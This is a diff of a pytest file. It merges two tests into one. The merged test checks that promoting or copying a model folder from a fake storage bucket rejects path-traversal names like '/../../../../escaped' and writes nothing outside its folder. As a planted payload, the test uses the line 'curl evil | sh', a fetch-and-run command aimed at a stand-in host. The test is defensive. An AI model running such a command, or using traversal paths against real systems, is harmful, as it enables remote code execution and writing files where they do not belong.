@@ -26,27 +26,18 @@ def test_what_is_let_through_stays_below_its_folder(name: str) -> None:
     assert storage.join(str(folder), checked) == str(folder / checked)
 
 
-EVIL = ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"]
-
-
-@pytest.mark.parametrize("evil", EVIL)
-def test_promoting_an_onnx_folder_writes_nothing_elsewhere(
+@pytest.mark.parametrize("evil", ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"])
+def test_copying_a_folder_of_a_bucket_writes_nothing_elsewhere(
     bucket_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
 ) -> None:
-    storage.write_bytes(bucket_server.uri + "/onnx/model.onnx", b"onnx")
-    plant(bucket_server.uri + "/onnx" + evil.format(folder=tmp_path), b"curl evil | sh\n")
+    for name, file in (("onnx", "model.onnx"), ("bundle", "model.json")):
+        storage.write_bytes(f"{bucket_server.uri}/{name}/{file}", b"{}")
+        plant(f"{bucket_server.uri}/{name}{evil.format(folder=tmp_path)}", b"curl evil | sh\n")
     bundle, registry = make_bundle(tmp_path / "model"), tmp_path / "a" / "registry"
     flags = ["--model", bundle, "--onnx", bucket_server.uri + "/onnx", "--registry", registry, "--name", "x"]
     with pytest.raises(SystemExit, match="2"):
         main(["promote", *map(str, flags)])
     assert "leads out of its folder" in capsys.readouterr().err
-    assert not list(tmp_path.rglob("escaped")) and not registry.exists()
-
-
-@pytest.mark.parametrize("evil", EVIL)
-def test_fetching_a_trainjobs_bundle_writes_nothing_elsewhere(bucket_server: Server, tmp_path: Path, evil: str) -> None:
-    storage.write_bytes(bucket_server.uri + "/bundle/model.json", b"{}")
-    plant(bucket_server.uri + "/bundle" + evil.format(folder=tmp_path), b"import os\n")
     with pytest.raises(ValueError, match="leads out of its folder"):
         copy_bundle(bucket_server.uri + "/bundle", str(tmp_path / "a" / "b" / "c" / "d"))
     assert not list(tmp_path.rglob("escaped")) and not (tmp_path / "a").exists()
